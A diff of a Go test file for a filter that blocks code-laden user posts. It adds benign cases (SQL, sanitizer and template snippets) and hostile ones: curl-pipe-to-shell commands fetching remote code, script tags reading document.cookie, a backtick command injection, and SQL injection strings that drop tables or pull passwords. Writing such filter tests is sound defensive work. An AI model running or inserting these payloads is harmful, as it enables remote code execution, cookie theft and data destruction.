@@ -18,10 +18,25 @@ func TestFencedMarkdownCode(t *testing.T) {
 		{"My Flask template does not render:\n\n```jinja\n{{ config.items() }}\n```\nwhy?", false},
 		{"Run this to list them:\n```\ncat /etc/os-release; uname -a\n```\nthen paste the output.", false},
 
-		// What still blocks: code in the prose, markup and SQL anywhere,
-		// an unclosed fence, a fence and nothing else.
+		{"I have two tables and I'm combining them:\n\n```sql\nSELECT name, email FROM customers WHERE country = 'DE'\nUNION\nSELECT name, email FROM suppliers WHERE country = 'DE';\n```\n\nIs `UNION` removing duplicates?", false},
+		{"In my migration I have\n\n```sql\nDROP TABLE IF EXISTS staging_orders CASCADE;\nCREATE TABLE staging_orders (LIKE orders INCLUDING ALL);\n```\n\nbut it dropped a view.", false},
+		{"Sanitize it:\n\n```js\nel.innerHTML = DOMPurify.sanitize(userHtml, { ALLOWED_TAGS: ['b'] });\n```\n\nThen inline `<script>` blocks and `onerror=` handlers won't run.", false},
+		{"In Rails, `<%= @user.name %>` escapes HTML and `<%== raw_html %>` doesn't. In Go, `{{ range .Items }}<li>{{ .Title }}</li>{{ end }}` is safe only with html/template, right?", false},
+		{"Tip: `curl -s https://api.example.org/api/v1/products?limit=1 | jq '.data[0] | {id, title}'` is handy for checking the new response shape.", false},
+		{"请问 `<script type=\"module\">` 和 `defer` 的执行顺序一样吗？我们的页面里有 3 个 module 脚本。谢谢！", false},
+		{"<h2>Partitioning</h2><p>We moved to declarative partitioning.</p><pre><code class=\"language-sql\">CREATE TABLE events (id bigint, ts timestamptz NOT NULL)\n  PARTITION BY RANGE (ts);\nCREATE TABLE events_q2 PARTITION OF events\n  FOR VALUES FROM ('2024-04-01') TO ('2024-07-01');</code></pre><p>Old vs new.</p>", false},
+		{"<p>If a page echoes <code>&lt;script&gt;</code> tags from user input without escaping, the browser runs them.</p>", false},
+
+		// What still blocks: code in the prose, SQL that breaks out of its
+		// quote or sits beside inline spans only, a closing tag of the
+		// quote, a lone command in a span, an unclosed fence, a fence and
+		// nothing else.
 		{"Thanks! ; curl http://203.0.113.9/x | sh\n```\nls\n```\nbye", true},
 		{"Nice post\n```html\n</code><script>alert(document.cookie)</script>\n```\nreally", true},
+		{"<p>Nice post, really a good one</p><code></code><script>alert(document.cookie)</script></code>", true},
+		{"please do check this one for me;`id`", true},
+		{"drop table if exists `users`--", true},
+		{"this is my favourite little number x' UNION SELECT `password` FROM users--", true},
 		{"look at this\n```\nx' UNION SELECT password FROM users--\n```\nok?", true},
 		{"Here's what I tried:\n```bash\n$(curl -s http://203.0.113.9/x | bash)\n", true},
 		{"```bash\n$(curl -s http://203.0.113.9/x | bash)\n```", true},
@@ -47,13 +62,21 @@ func jsonBody(markdown string) string {
 	return string(b)
 }
 
-func FuzzFencedProse(f *testing.F) {
-	for _, s := range []string{"a b c\n```\nx\n```\n", "```", "```\n```", "x\n  ```go\ny\n```"} {
+func FuzzCodeProse(f *testing.F) {
+	for _, s := range []string{"a b c\n```\nx\n```\n", "```", "```\n```", "x\n  ```go\ny\n```", "use `a` and ``b`c`` here", "<p>x <code>y</code> z</p><pre>q", "~~~\nx\n~~~ a b c"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
-		if p, ok := fencedProse(s); ok && len(p) > len(s)+2 {
-			t.Fatalf("%q: prose %q longer than the document", s, p)
+		p, segs, ok := codeProse(s)
+		if !ok {
+			return
+		}
+		n := 0
+		for _, seg := range segs {
+			n += len(seg.text)
+		}
+		if len(p)+n > len(s)+2*len(segs)+2 {
+			t.Fatalf("%q: prose %q and %d code bytes longer than the document", s, p, n)
 		}
 	})
 }
